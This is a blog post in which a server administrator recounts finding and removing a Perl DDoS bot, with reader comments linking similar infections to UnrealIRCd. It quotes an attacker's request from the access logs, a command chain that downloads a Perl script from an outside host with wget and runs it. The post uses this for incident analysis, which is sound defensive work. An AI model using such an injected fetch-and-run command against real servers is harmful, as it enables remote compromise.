Damn Script Kiddies, Get Off My Lawn!

| | | |

This should be a post about how entertaining the Chicago edition of w00tstock was1 or about Steve Jobs' WWDC Keynote2 or about the Blackhawks winning the Stanley Cup3 or any number of other things. Instead this post it about cleaning up after some script kiddie who decided to try to use a server that does not belong to them for their own personal use.

See, on Monday last, I discovered, after an automated notice of high computing load, a process identifying itself as "/usr/sbin/apache/log" which had been running for some 30+ hours. Obviously, no Apache log rotation should take that long. Moreover, the log rotation program commonly found with the Apache Web Server is known as rotatelog. A quick directory listing confirmed that no such program or directory existed at "/usr/sbin/apache/log"

A Google search for that path resulted in a number of pages warning of a possible system compromise and suggested a review of files in the "/var/tmp" and "/tmp" directories for anything weird.

Alas, anything weird is a bit vague and considering that both temporary directories are common placeholders for random files of any number of system users or programs it took me a few passes to realize that in this case that "anything weird" would be any thing executable since any proper executable would reside elsewhere on a Unix-based filesystem.

An extended listing of contents resulted in the the identification of the culprit, a Perl script called,pxconfig residing in the root tmp directory.

Luckily no evidence indicated a greater incursion, such as a rootkitbeing installed, thus disabling the script was a simple matter of using root's superuser status to kill the process and remove the privileges of script file from executing.

Another Google search, using some of the script's code, resulted in the discovery of an analysis of a similar Perlbot, the main difference being that the script I had discovered looked to have been modified with the sole purpose of working in coordination with other compromised systems for overloading a server with resource requests (DDoS) and seemed to contain no code to propagate itself.

So after disabling the offending script, I set about trying to discover how it managed to get itself installed in the first place. This blog posting suggested a possible point of entry and indeed after trying a couple of different search patterns on the Apache access logs I located the point of entry:

access_log.5.gz:80.37.xxx.xx - -
[01/Jun/2009:00:01:54 -0500] "GET
wget%20http://81.56.xxx.xxx/d.pl;perl%20d.pl;echo%20YYY;echo| HTTP/1.1" 200 434 "-" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1;)"

Notice in the GET request a GIF file being uploaded and a series of shell commands. Well the GIF file is no doubt corrupt, designed to take advantage of any number of known security vulnerabilities with the GD library resulting in a buffer overflow that in turn allows the arbitrary execution of the commands. Those commands changeaccess to the "/tmp"directory, use wget to download a perl file and then execute said perl file. That file no doubt downloads yet another script name pxconfig, executes that second script and removes itself.

Moral of the story? Keep the system up-to-date, restrict all points where files can be uploaded, keep a close eye on what's running and Google is your friend.

Damn kids these days!

1 Quick Review: Very entertaining, would haveliked a chance to get Bill Amend's autograph on a FoxTrot Collection.

2 Yes, I still plan on upgrading my iPhone from a "3G" to the new "4", no I'm not surprised Apple has renamed their mobile OS.

3 Time to retake my picture with The Cup.


Nice work.

But, this is when there are httpd (apache) processes and PHP is installed.
And when using an IRCd?

I have not found such a script named pxconfig.
I found only the jobs processes /usr/sbin/apache/log and the TXT files in /tmp

How to stop this?

In my case a known vulnerability with PHP (which more times than not is implemented along with Apache) was used to install a payload that enabled access for the script named "pxconfig" to be installed. However, that doesn't mean that what I outline above is the only attack vector available for compromising a server.

Nor does the script need to be called "pxconfig", which is why the suggestions I found elsewhere suggest to "look for anything weird" and why I suggest looking for anything that is executable. The point is, don't trust the file name, even if it has a .txt extension

In regards to to stopping the running process, I would first try using the "kill" command as root to kill the process and then use the"chmod" command to remove the execute permissions onthe script file. Alternatively, you could just remove the file with "rm" and then restart the system.

Thanks, Paul.
Yep. You're very very right. Just kill the process and clean up the tmp folder has not ceased the attack. In that case, the only way was to remove the IRCds.
There was a recent news item about a bug in UnrealIRCd
I believe that the infection was through it, therefore, four costumers had the same problem.
We stopped and blocked the IRCds until customers upgrade their systems.
Once this is done, no more problem. At least until the present moment.

Can also confirm that attack was via UnrealIRCd on my server too, file name was 80.txt my IRCd has like 40 people max on it at anytime so I'd be surprised if it was one of them or any of my users, not really their style, I'd suggest that the hacked version of Unreal and the subsequent use of the hole are related insofar as the ircd hack was probably calling home. Can't seewhat if anything the hack does except grant oper status to someone on the ircd, not a huge dram but wonder what the hell was using the CPU cycles?

Interesting, thanks for that additional information Pete.

Presumably, the compromised IRC servers are being used as distributed "command and control" points to issueorders to other compromised servers, such as mine. That might explain the high computing load, as your server was busy issuing commands and coordinating numerous other 'bots "out in the field."

I had this happen, but it was called floodsend.tgz and .m

They ended up using like a TB of bandwidth...

Leave a comment

About the Author

Paul is a technologist and all around nice guy for technology oriented organizations and parties. Besides maintaining this blog and website you can follow Paul's particular pontifications on the LifeUniverse and Everything on Twitter.


Add to Google Reader orHomepage
Add to My AOL

Add to netvibes
Subscribe in Bloglines
Add to Technorati Favorites

Movable Type Pro